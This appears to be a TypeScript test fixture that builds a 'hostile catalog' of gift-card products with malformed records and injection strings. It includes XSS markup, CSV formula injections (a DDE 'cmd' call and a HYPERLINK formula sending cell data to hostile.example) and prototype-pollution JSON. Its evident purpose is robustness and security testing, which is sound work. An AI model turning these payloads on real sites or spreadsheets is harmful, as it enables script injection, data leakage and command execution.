import type { CatalogProduct } from "./types.ts";

/** A record of the hostile catalog; with `product`, it can be ordered like any other: only its texts are hostile. */
export type HostileRecord = { what: string; record: unknown; product: CatalogProduct | null };

const FIRST_ID = 800_001;

/** Runs script if a page inserts it as markup, attribute or element. */
const MARKUP = `<script>window.hostile=1</script><img src="x" onerror="window.hostile=1">" autofocus onfocus="window.hostile=1`;
const INVISIBLE = "\u200b\u2060\u3164\u00ad";
/** Right-to-left override and an isolate, never ended. */
const BIDI = "\u202e\u2066";

const CARD = {
  currencyCode: "EUR",
  countryCode: "DE",
  denominationType: "fixed",
  price: 1_000,
  brand: "Hostile",
  category: "Hostile",
  language: "en",
  tags: ["hostile"],
} as const satisfies Partial<Record<keyof CatalogProduct, unknown>>;
const OPEN = {
  denominationType: "open",
  price: undefined,
  denominationMinValue: 1_000,
  denominationMaxValue: 50_000,
  denominationStep: 500,
  denominationDefaultValue: 2_000,
} as const;

/** Hostile texts in products that are otherwise correct: each can be ordered. */
const TEXTS: Record<string, Partial<CatalogProduct> & { name: string }> = {
  "markup in every text": {
    name: `Markup ${MARKUP}`,
    brand: `Brand ${MARKUP}`,
    category: `Category ${MARKUP}`,
    language: `<i>en</i>`,
    tags: [`tag ${MARKUP}`, "javascript:window.hostile=1"],
  },
  "formulas in every text": {
    name: `=HYPERLINK("https://hostile.example/?"&A1,"Formula")`,
    brand: `+1+cmd|' /C calc'!A0`,
    category: "@SUM(1+1)",
    tags: ["-2+3", "\t=1+1", "\r=1+1"],
  },
  "bidirectional overrides": {
    name: `Bidi ${BIDI}draC tfiG`,
    brand: `Brand ${BIDI}driht`,
    category: `Category ${BIDI}htfif`,
    tags: [`tag ${BIDI}`],
  },
  "right to left": { name: "بطاقة هدايا (10) ريال", brand: "علامة", category: "ألعاب" },
  "NUL, control characters and half a character": {
    name: "Nul\u0000 bell\u0007 escape\u001b[31m delete\u007f half\ud800 line\nbreak",
    brand: "Nul\u0000",
    tags: ["\u0000", "\udfff"],
  },
  "nothing to be seen": { name: INVISIBLE, brand: INVISIBLE, category: INVISIBLE, tags: [INVISIBLE] },
  "10 kB in one word": {
    name: `Word${"w".repeat(10_000)}`,
    brand: `Brand${"b".repeat(10_000)}`,
    category: `Category${"c".repeat(150)}`,
    tags: ["t".repeat(150)],
  },
  "10 kB in many words": { name: `Words ${"and more ".repeat(1_200)}`, brand: "so many ".repeat(20) },
  "marks that pile up": { name: `Marks Z${"\u0336\u0489\u0301".repeat(200)}algo` },
  "5,000 tags": { name: "Tags", tags: Array.from({ length: 5_000 }, (_, tag) => `hostile tag ${tag}`) },
};

/** Values that contradict each other or docs/service-interface.md §2.1; null for records without an id. */
const RECORDS: Record<string, unknown> = {
  "a negative price": { name: "Negative price", price: -1_000 },
  "a price of zero": { name: "Price of zero", price: 0 },
  "a price with a fraction": { name: "Price with a fraction", price: 10.5 },
  "the largest price": { name: "Largest price", price: Number.MAX_SAFE_INTEGER },
  "a minimum above the maximum": { ...OPEN, name: "Minimum above maximum", denominationMinValue: 90_000 },
  "a step of zero": { ...OPEN, name: "Step of zero", denominationStep: 0 },
  "a negative step": { ...OPEN, name: "Negative step", denominationStep: -500 },
  "a step beyond the range": { ...OPEN, name: "Step beyond the range", denominationStep: 1_000_000 },
  "a negative minimum": { ...OPEN, name: "Negative minimum", denominationMinValue: -1_000 },
  "a default outside of the bounds": {
    ...OPEN,
    name: "Default outside",
    denominationDefaultValue: 99_999_999,
  },
  "open without bounds": { name: "Open without bounds", denominationType: "open", price: null },
  "an unknown currency": { name: "Currency ZZZ", currencyCode: "ZZZ" },
  "a currency in small letters": { name: "Currency eur", currencyCode: "eur" },
  "a currency sign": { name: "Currency €", currencyCode: "€" },
  "a currency of markup": {
    name: "Currency markup",
    currencyCode: "<b onclick=hostile>",
    countryCode: "<i>DE",
  },
  "a currency that turns amounts around": { name: "Currency turned", currencyCode: "\u202eEUR" },
  "a currency as a number": { name: "Currency 978", currencyCode: 978 },
  "no currency": { name: "No currency", currencyCode: null },
  "a country that is none": { name: "Country", countryCode: "Atlantis, the lost one" },
  "a name that is no text": { name: { en: ["Name"] }, brand: [[["deep"]]], tags: { length: 3 } },
  "members of every object": JSON.parse(
    `{"name":"Members","constructor":1,"toString":2,"hasOwnProperty":3,"__proto__":{"price":1,"polluted":true}}`,
  ),
  "200 levels": {
    name: "Levels",
    more: JSON.parse(`${'{"a":['.repeat(200)}1${"]}".repeat(200)}`) as unknown,
  },
  "a record of 100 kB": { name: "Large", notes: "note ".repeat(20_000) },
  "an id as text": { id: String(FIRST_ID + 90), name: "Id as text" },
  "no product at all": null,
  "a text for a product": "product",
  "a list for a product": [],
  "no id": { id: undefined, name: "Without id" },
  "an id of zero": { id: 0, name: "Id of zero" },
  "a negative id": { id: -7, name: "Negative id" },
  "an id with a fraction": { id: 1.5, name: "Id with a fraction" },
  "an id in words": { id: "one", name: "Id in words" },
  "an id beyond what is exact": { id: 2 ** 53, name: "Id beyond" },
};

/** The hostile catalog: the same records every time, each under what is wrong with it. The usual products follow it. */
export const HOSTILE: readonly HostileRecord[] = [
  ...Object.entries(TEXTS).map(([what, text], at): HostileRecord => {
    const product = { ...CARD, tags: [...CARD.tags], id: FIRST_ID + at, ...text };
    return { what, record: product, product };
  }),
  ...Object.entries(RECORDS).map(([what, change], at): HostileRecord => {
    const isObject = typeof change === "object" && change !== null && !Array.isArray(change);
    const record = isObject ? { ...CARD, id: FIRST_ID + 100 + at, ...change } : change;
    return { what, record, product: null };
  }),
  duplicate("one of two with one id", { name: "Twin, the first", price: 1_000 }),
  duplicate("the other of two with one id", { name: "Twin, the second", price: 2_000 }),
];

function duplicate(what: string, change: object): HostileRecord {
  return { what, record: { ...CARD, id: FIRST_ID + 99, ...change }, product: null };
}

/** The record that GET /catalog/products/{productId} answers with; of two with one id, the last. Undefined: there is none. */
export function hostileRecord(id: number): HostileRecord | undefined {
  return HOSTILE.findLast(({ record }) => {
    return typeof record === "object" && record !== null && "id" in record && Number(record.id) === id;
  });
}
